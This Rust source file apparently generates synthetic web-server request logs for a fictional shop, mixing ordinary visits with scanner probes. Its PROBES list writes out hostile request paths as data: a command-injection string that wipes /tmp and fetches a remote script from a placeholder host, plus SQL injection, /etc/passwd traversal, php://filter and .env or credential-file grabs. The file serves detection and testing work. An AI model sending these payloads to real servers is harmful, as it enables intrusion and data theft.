//! What web hosts are asked, by whom, and what they answer.

use crate::random::{Random, mix};
use crate::text::{Filling, PEOPLE, Peer, Template};
use ringwall_event::HttpRequest;

#[derive(Clone, Copy)]
enum Kind {
    Page,
    Asset,
    Call,
    Login,
}

struct Route {
    method: &'static str,
    hostname: &'static str,
    kind: Kind,
    path: &'static str,
}

const fn route(
    method: &'static str,
    hostname: &'static str,
    kind: Kind,
    path: &'static str,
) -> Route {
    Route { method, hostname, kind, path }
}

const SHOP: &str = "shop.example.com";
const API: &str = "api.example.com";
const STATIC: &str = "static.example.com";

/// The first is asked for most often.
#[rustfmt::skip]
const ROUTES: [Route; 40] = [
    route("GET", SHOP, Kind::Page, "/"),
    route("GET", API, Kind::Call, "/v1/cart"),
    route("GET", STATIC, Kind::Asset, "/assets/app-4f9c01d2.js"),
    route("GET", SHOP, Kind::Page, "/products/{id}"),
    route("GET", STATIC, Kind::Asset, "/assets/app-77ab13e0.css"),
    route("GET", API, Kind::Call, "/v1/products?page={n}&sort=price"),
    route("GET", STATIC, Kind::Asset, "/thumb/{id}.webp"),
    route("GET", SHOP, Kind::Page, "/search?q={word}&page={n}"),
    route("POST", API, Kind::Call, "/v1/cart/items"),
    route("GET", STATIC, Kind::Asset, "/fonts/inter-var.woff2"),
    route("GET", API, Kind::Call, "/v1/products/{id}/reviews?limit=20"),
    route("GET", SHOP, Kind::Page, "/category/{word}?page={n}"),
    route("POST", SHOP, Kind::Login, "/login"),
    route("GET", SHOP, Kind::Page, "/login"),
    route("GET", API, Kind::Call, "/v1/session"),
    route("GET", SHOP, Kind::Asset, "/favicon.ico"),
    route("GET", API, Kind::Call, "/v1/stock/{id}"),
    route("GET", SHOP, Kind::Page, "/account/orders"),
    route("GET", API, Kind::Call, "/v1/orders/{id}"),
    route("PUT", API, Kind::Call, "/v1/cart/items/{id}"),
    route("DELETE", API, Kind::Call, "/v1/cart/items/{id}"),
    route("GET", SHOP, Kind::Page, "/robots.txt"),
    route("HEAD", SHOP, Kind::Page, "/"),
    route("GET", SHOP, Kind::Page, "/sitemap.xml"),
    route("POST", API, Kind::Call, "/v1/events?session={hex}"),
    route("GET", SHOP, Kind::Page, "/checkout"),
    route("POST", API, Kind::Call, "/v1/orders"),
    route("GET", STATIC, Kind::Asset, "/upload/{hex}.jpg"),
    route("GET", SHOP, Kind::Page, "/help/{word}"),
    route("OPTIONS", API, Kind::Call, "/v1/cart"),
    route("GET", API, Kind::Call, "/v1/search/suggest?q={word}"),
    route("PATCH", API, Kind::Call, "/v1/account"),
    route("GET", SHOP, Kind::Page, "/password/reset?token={hex}{hex}"),
    route("GET", SHOP, Kind::Page, "/invoice/{id}.pdf"),
    route("GET", API, Kind::Call, "/v1/recommendations?for={id}&n={n}"),
    route("GET", SHOP, Kind::Page, "/blog/{word}-{word}"),
    route("GET", STATIC, Kind::Asset, "/img/banner-{n}.avif"),
    route("GET", SHOP, Kind::Page, "/.well-known/security.txt"),
    route("POST", SHOP, Kind::Call, "/contact"),
    route("GET", API, Kind::Call, "/health"),
];

/// What scanners look for.
const PROBES: [&str; 24] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/cgi-bin/luci/;stok=/locale",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1",
    "/solr/admin/info/system",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{out}/{word}.sh",
    "/server-status",
    "/backup.zip",
    "/?id=1%27%20OR%20%271%27=%271",
    "/../../../../etc/passwd",
    "/owa/auth/logon.aspx",
    "/manager/html",
    "/api/v1/pods",
    "/boaform/admin/formLogin",
    "/remote/login?lang=en",
    "/index.php?page=php://filter/convert.base64-encode/resource={word}",
    "/console/",
];

const BROWSERS: [&str; 20] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "okhttp/4.12.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "ShopApp/7.4.1 (iOS 18.6; iPhone15,3)",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 15; SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "python-requests/2.32.3",
    "UptimeRobot/2.0",
    "Go-http-client/1.1",
];

const SCANNERS: [&str; 5] = [
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3",
    "python-requests/2.27.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Nikto/2.5.0",
];

const REFERRERS: [&str; 6] = [
    "https://shop.example.com/",
    "https://www.google.com/",
    "https://shop.example.com/search",
    "https://shop.example.com/category/form",
    "https://duckduckgo.com/",
    "https://t.co/",
];

/// The paths, ready to be filled.
#[derive(Debug)]
pub(crate) struct Paths {
    routes: Vec<Template>,
    probes: Vec<Template>,
}

/// How long a client or scanner goes on.
pub(crate) fn requests_that_follow(random: &mut Random, is_scan: bool) -> u64 {
    if is_scan { 4 + random.below(28) } else { random.zipf(4).into() }
}

impl Paths {
    pub(crate) fn new() -> Self {
        Self {
            routes: ROUTES.iter().map(|route| Template::new(route.path)).collect(),
            probes: PROBES.iter().map(|path| Template::new(path)).collect(),
        }
    }

    /// A request of somebody who uses the site.
    pub(crate) fn visit(
        &self,
        client: Peer,
        random: &mut Random,
        filling: &Filling<'_>,
        buffer: &mut String,
    ) -> HttpRequest {
        let at = random.zipf(6) as usize % ROUTES.len();
        let Some((route, path)) = ROUTES.get(at).zip(self.routes.get(at)) else {
            return HttpRequest::default();
        };
        buffer.clear();
        path.push(buffer, random, filling);
        let path = buffer.as_str().into();
        let status = status(route.kind, random);
        let response_bytes = match (status, route.kind) {
            (204 | 304, _) => 0,
            // A file has the size that it has.
            (200, Kind::Asset) => 900 + mix(at as u64) % 180_000,
            (200, Kind::Page) => random.scale(4000, 90_000),
            (200, _) => random.scale(60, 24_000),
            _ => 153 + u64::from(status) % 7 * 31,
        };
        // A client calls itself the same in all its requests.
        let agent = match client {
            Peer::Outside(rank) => mix(filling.seed ^ u64::from(rank) ^ 0x0061_6765_6e74),
            Peer::Host(_) | Peer::Needle => 0,
        };
        let is_signed_in = matches!(route.kind, Kind::Call) && agent.is_multiple_of(5);
        HttpRequest {
            method: route.method.into(),
            path,
            hostname: Some(route.hostname.into()),
            client_address: Some(client.text(buffer, filling.seed)),
            client_port: Some(1024 + random.below(64_000) as u16),
            user_agent: Some(Random::of(&[agent]).pick_zipf(&BROWSERS).into()),
            referrer: random.chance(400).then(|| random.pick_zipf(&REFERRERS).into()),
            user: is_signed_in.then(|| Random::of(&[agent]).pick(&PEOPLE).into()),
            status: Some(status),
            response_bytes: Some(response_bytes),
            duration_ms: Some(random.scale(1, 1200)),
        }
    }

    /// A request of somebody who looks for holes.
    pub(crate) fn probe(
        &self,
        client: Peer,
        random: &mut Random,
        filling: &Filling<'_>,
        buffer: &mut String,
    ) -> HttpRequest {
        let at = random.below(self.probes.len() as u64) as usize;
        buffer.clear();
        if let Some(path) = self.probes.get(at) {
            path.push(buffer, random, filling);
        }
        let path = buffer.as_str().into();
        let status = match random.below(100) {
            0..84 => 404,
            84..92 => 403,
            92..97 => 400,
            _ => 301,
        };
        HttpRequest {
            method: if random.chance(150) { "POST" } else { "GET" }.into(),
            path,
            hostname: random.chance(300).then(|| SHOP.into()),
            client_address: Some(client.text(buffer, filling.seed)),
            client_port: Some(1024 + random.below(64_000) as u16),
            user_agent: random.chance(900).then(|| random.pick(&SCANNERS).into()),
            referrer: None,
            user: None,
            status: Some(status),
            response_bytes: Some(153 + u64::from(status) % 7 * 31),
            duration_ms: Some(random.scale(1, 16)),
        }
    }
}

fn status(kind: Kind, random: &mut Random) -> u16 {
    let drawn = random.below(1000);
    match (kind, drawn) {
        (_, 0..2) => 500,
        (_, 2..4) => 502,
        (Kind::Page, 4..120) => 304,
        (Kind::Page, 120..160) => 302,
        (Kind::Page, 160..195) => 404,
        (Kind::Asset, 4..370) => 304,
        (Kind::Asset, 370..385) => 404,
        (Kind::Call, 4..34) => 401,
        (Kind::Call, 34..60) => 404,
        (Kind::Call, 60..85) => 422,
        (Kind::Call, 85..150) => 204,
        (Kind::Login, 4..620) => 302,
        (Kind::Login, 620..800) => 401,
        (Kind::Login, 800..830) => 429,
        _ => 200,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::check_template;

    #[test]
    fn every_place_of_a_path_is_known() {
        ROUTES.iter().for_each(|route| check_template(route.path));
        PROBES.iter().for_each(|path| check_template(path));
    }
}
